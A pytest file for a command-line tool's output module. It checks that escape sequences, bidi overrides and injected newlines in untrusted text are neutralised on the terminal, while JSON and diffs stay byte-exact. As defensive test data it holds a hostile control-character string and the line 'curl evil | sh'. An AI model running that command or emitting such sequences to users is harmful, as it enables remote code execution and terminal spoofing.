"""What is printed: harmless to a terminal, exact in a file."""

import io
import json
from contextlib import redirect_stderr, redirect_stdout

import pytest

from homeostat.cli import output
from homeostat.core.errors import Conflict, OutcomeUnknown

HOSTILE = "a\x1b[2Jb\x07\rc\x9b1md\u202ee\u2066f\x00\x7f\u200f"


class Terminal(io.TextIOWrapper):
    def __init__(self):
        super().__init__(io.BytesIO(), encoding="utf-8")

    def isatty(self):
        return True

    @property
    def text(self):
        self.flush()
        return self.buffer.getvalue().decode()


def test_no_control_character_of_a_text_reaches_the_reader():
    shown = output.visible(HOSTILE + "\n\tend")
    assert shown == "a\\x1b[2Jb\\x07\\x0dc\\x9b1md\\u202ee\\u2066f\\x00\\x7f\\u200f\n\tend"
    assert output.visible("Grüße, 世界 \U0001f600 é") == "Grüße, 世界 \U0001f600 é"


def test_nobodys_text_makes_a_line_that_looks_like_ours(capsys):
    output.show("title\n  live: can be swapped in")
    output.say("reason\nnext: homeostat proposals apply x")
    output.show_error(Conflict("moved-on", "it is\nhint: curl evil | sh"))
    output.show_text("good\nnext: apply it\x0bor\u2028else\r  policy: fine")
    said = capsys.readouterr()
    assert said.out.splitlines() == [
        "title\\n  live: can be swapped in",
        "  | good",
        "  | next: apply it",
        "  | or",
        "  | else",
        "  |   policy: fine",
    ]
    assert said.err.splitlines() == [
        "reason\\nnext: homeostat proposals apply x",
        "error[moved-on]: it is\\nhint: curl evil | sh",
    ]


def test_a_json_document_controls_no_terminal_and_is_the_same_document(capsys):
    output.emit_json({"title": HOSTILE + "ü"})
    printed = capsys.readouterr().out
    assert not set(printed) & set("\x1b\x07\r\x7f\x9b\u200f\u202e\u2066") and "ü" in printed
    assert json.loads(printed)["title"] == HOSTILE + "ü"


def test_neither_does_one_of_an_error(capsys):
    code = output.show_error(Conflict("moved-on", f"it is {HOSTILE} now", hint=HOSTILE))
    said = capsys.readouterr()
    assert (code, said.out) == (3, "")
    assert said.err.startswith("error[moved-on]: it is a\\x1b[2J") and "\nhint: a\\x1b" in said.err
    assert not set(said.err) & set("\x1b\x07\r\x9b\u202e")


def test_the_exit_code_is_that_of_the_family(capsys):
    assert output.show_error(OutcomeUnknown("x", "y")) == 6
    assert "hint" not in capsys.readouterr().err


def test_a_table_is_whole_lines_of_tabs_where_no_terminal_listens(capsys):
    long = "x" * 500
    output.show_table(("id", "what"), [("1", "a\tb\nc\x1b"), ("2", long)])
    assert capsys.readouterr().out == f"1\ta b c\\x1b\n2\t{long}\n"


def test_a_table_has_its_columns_named_for_people_and_no_markup_is_read_from_a_cell():
    with redirect_stdout(Terminal()) as terminal:
        output.show_table(("id", "what"), [("[red]1[/red]", HOSTILE)])
    assert "id" in terminal.text and "[red]1[/red]" in terminal.text
    assert not set(terminal.text) & set("\x07\x9b\u202e") and "\x1b[2J" not in terminal.text


def test_a_diff_goes_into_a_file_byte_for_byte(capsysbinary):
    diff = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\r\n+b\x0c\u202eé\r\n"
    output.show_diff(diff)
    assert capsysbinary.readouterr().out == diff.encode()


def test_a_diff_for_people_hides_nothing_and_moves_nothing():
    with redirect_stdout(Terminal()) as terminal:
        output.show_diff(f"+x = 1  # {HOSTILE}\n")
    assert "\\u202e" in terminal.text and "\\x1b[2J" in terminal.text and "\x07" not in terminal.text


@pytest.mark.parametrize(
    ("variable", "value", "coloured"), [("X", "1", True), ("NO_COLOR", "1", False), ("TERM", "dumb", False)]
)
def test_colour_is_for_terminals_that_want_it(monkeypatch, variable, value, coloured):
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setenv(variable, value)
    with redirect_stderr(Terminal()) as made:
        output.show_error(Conflict("moved-on", "it moved"))
    assert ("\x1b[1;31m" in made.text) is coloured


def test_a_document_is_versioned_json_also_with_text_that_has_no_encoding(capsys):
    output.emit_json({"name": "é\udcff", "list": [1]})
    body = json.loads(capsys.readouterr().out)
    assert body == {"schema": 1, "name": "é\udcff", "list": [1]}


def test_what_is_waited_for_is_one_line_that_goes_away_and_only_at_a_terminal(monkeypatch, capsys):
    monkeypatch.setenv("TERM", "xterm")
    with redirect_stderr(Terminal()) as terminal, output.Progress() as progress:
        progress.update("first \x07")
        progress.update("second")
    assert terminal.text == "\r\x1b[K  first \\x07 ... 0 s\r\x1b[K  second ... 0 s\r\x1b[K"
    with redirect_stderr(Terminal()) as terminal, output.Progress(quiet=True) as progress:
        progress.update("first")
    assert terminal.text == ""
    with output.Progress() as progress:
        progress.update("first")
    assert capsys.readouterr().err == ""
